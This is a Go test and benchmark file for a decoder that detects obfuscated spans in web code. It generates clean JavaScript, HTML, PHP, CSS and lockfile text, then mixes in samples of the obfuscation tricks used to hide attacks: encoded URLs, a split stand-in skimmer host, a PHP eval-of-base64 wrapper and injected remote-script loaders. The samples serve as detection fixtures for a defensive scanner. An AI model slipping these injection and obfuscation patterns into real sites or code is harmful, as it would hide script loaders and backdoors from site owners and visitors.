package decode

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// cleanWeb generates about n bytes of ordinary web code: JavaScript (plain
// and minified), HTML, PHP, CSS with an image data URI, a lockfile with
// integrity hashes and a source map.
func cleanWeb(n int) []byte {
	r := rand.New(rand.NewPCG(1, 2))
	words := []string{"user", "cart", "item", "price", "total", "config", "render", "update", "value", "index",
		"element", "handler", "options", "result", "payload", "request", "response", "session", "token", "count"}
	w := func() string { return words[r.IntN(len(words))] }
	ident := func() string { return w() + strings.ToUpper(w()[:1]) + w()[1:] }
	var b strings.Builder
	for b.Len() < n {
		switch r.IntN(8) {
		case 0: // plain JavaScript
			fmt.Fprintf(&b, "function %s(%s, %s) {\n  // update the %s when the %s changes\n  const %s = document.querySelector('#%s-%d');\n  if (%s && %s.length > %d) {\n    %s.textContent = \"%s: \" + %s.toFixed(2);\n    fetch('/api/%s/%d', {method: 'POST', body: JSON.stringify({%s: %s})});\n  }\n  return %s * (%d / 100) + %s[%d];\n}\n",
				ident(), w(), w(), w(), w(), w(), w(), r.IntN(100), w(), w(), r.IntN(10), w(), w(), w(), w(), r.IntN(1000), w(), w(), w(), r.IntN(100), w(), r.IntN(9))
		case 1: // minified JavaScript
			for range 20 {
				fmt.Fprintf(&b, "var %s=function(e,t){return e&&t?e[%q]+t.%s(%d):void 0},%s=[%d,%d,%d];", ident(), w(), w(), r.IntN(99), ident(), r.IntN(999), r.IntN(999), r.IntN(999))
				fmt.Fprintf(&b, "n.prototype.%s=function(e){var t=this;return new Promise(function(n,r){t.%s(e,\"%s\").then(n)[\"catch\"](r)})};", w(), w(), w())
			}
			b.WriteByte('\n')
		case 2: // HTML
			fmt.Fprintf(&b, "<div class=\"%s %s-%s\" data-id=\"%d\"><a href=\"/%s/%s?page=%d&amp;sort=%s\" title=\"%s &amp; %s\">%s&nbsp;%s</a>\n<p>Don't forget the %s: it's &quot;%s&quot; &copy; 2024.</p></div>\n",
				w(), w(), w(), r.IntN(1e6), w(), w(), r.IntN(20), w(), w(), w(), w(), w(), w(), w())
			fmt.Fprintf(&b, "<script src=\"https://cdn.jsdelivr.net/npm/%s@%d.%d.%d/dist/%s.min.js\" integrity=\"sha384-%s\" crossorigin=\"anonymous\"></script>\n",
				w(), r.IntN(9), r.IntN(20), r.IntN(20), w(), randB64(r, 48))
		case 3: // PHP
			fmt.Fprintf(&b, "<?php\n$%s = $_POST['%s'] ?? '';\nif (strlen($%s) > %d) {\n    echo '<span class=\"%s\">' . htmlspecialchars($%s) . '</span>';\n    $this->%s->%s(\"%s\", [%d, %d]);\n}\n?>\n",
				w(), w(), w(), r.IntN(50), w(), w(), w(), w(), w(), r.IntN(100), r.IntN(100))
		case 4: // CSS with an image data URI
			fmt.Fprintf(&b, ".%s-%s { color: #%06x; margin: %dpx %dpx; background: url(\"data:image/png;base64,%s\") no-repeat; }\n",
				w(), w(), r.IntN(1<<24), r.IntN(20), r.IntN(20), randB64(r, 300))
		case 5: // lockfile
			fmt.Fprintf(&b, "    \"node_modules/%s-%s\": {\n      \"version\": \"%d.%d.%d\",\n      \"resolved\": \"https://registry.npmjs.org/%s/-/%s-%d.%d.%d.tgz\",\n      \"integrity\": \"sha512-%s==\"\n    },\n",
				w(), w(), r.IntN(9), r.IntN(20), r.IntN(20), w(), w(), r.IntN(9), r.IntN(20), r.IntN(20), randB64(r, 64))
		case 6: // source map
			b.WriteString(`{"version":3,"sources":["src/index.js"],"mappings":"`)
			for range 60 {
				fmt.Fprintf(&b, "%s,", randVLQ(r))
			}
			b.WriteString("AAAA\"}\n")
		case 7: // harmless escapes
			fmt.Fprintf(&b, "var msg = '%s\\n\\t\\'%s\\'', re = /^[a-z0-9.]+$/i, esc = \"\\u00e9t\\u00e9 %s\";\n", w(), w(), w())
		}
	}
	return []byte(b.String())
}

func randB64(r *rand.Rand, n int) string {
	const a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	b := make([]byte, n)
	for i := range b {
		b[i] = a[r.IntN(64)]
	}
	return string(b)
}

func randVLQ(r *rand.Rand) string {
	const a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	b := make([]byte, 4+r.IntN(3))
	for i := range b {
		b[i] = a[r.IntN(32)]
	}
	return string(b)
}

// obfuscatedWeb mixes cleanWeb with one encoded reference per family every
// few kilobytes.
func obfuscatedWeb(n int) []byte {
	samples := []string{
		"u='" + hexEsc(testURL, 1) + "';\n",
		"x=atob('" + b64(testURL) + "');\n",
		"u=String.fromCharCode(" + codes(testURL, false) + ");\n",
		"u='" + rev(testURL) + "'.split('').reverse().join('');\n",
		"u='https://sk'+'im.evil-'+'cdn.example/c.js';\n",
		"<a href=\"" + entities(testURL, false) + "\">x</a>\n",
		"i.src='http://3405803783/p.gif';\n",
		"<?php eval(gzinflate(base64_decode('" + b64b(deflate(phpPayload)) + "'))); ?>\n",
		pack("var s=document.createElement('script');s.src='"+testURL+"';", 62) + "\n",
	}
	clean := cleanWeb(n)
	var b strings.Builder
	for i := 0; i < len(clean); i += 4096 {
		b.Write(clean[i:min(len(clean), i+4096)])
		b.WriteString(samples[(i/4096)%len(samples)])
	}
	return []byte(b.String())
}

func BenchmarkSpans(b *testing.B) {
	inputs := []struct {
		name string
		src  []byte
	}{
		{"clean", cleanWeb(4 << 20)},
		{"obfuscated", obfuscatedWeb(4 << 20)},
	}
	for _, in := range inputs {
		b.Run(in.name, func(b *testing.B) {
			b.SetBytes(int64(len(in.src)))
			b.ReportAllocs()
			for b.Loop() {
				Spans(in.src, Options{})
			}
		})
	}
}

// BenchmarkPlainLoop is a floor for comparison: one table lookup per byte.
func BenchmarkPlainLoop(b *testing.B) {
	src := cleanWeb(4 << 20)
	b.SetBytes(int64(len(src)))
	n := 0
	for b.Loop() {
		for _, c := range src {
			if trigger[c] == tHigh {
				n++
			}
		}
	}
	_ = n
}

func TestCleanWebHasNoSpans(t *testing.T) {
	t.Parallel()
	src := cleanWeb(1 << 20)
	spans, _ := Spans(src, Options{})
	for _, s := range spans {
		t.Errorf("Spans(cleanWeb) = %s %q => %q, want none", ChainString(s.Chain), src[s.Start:s.End], s.Text)
	}
}
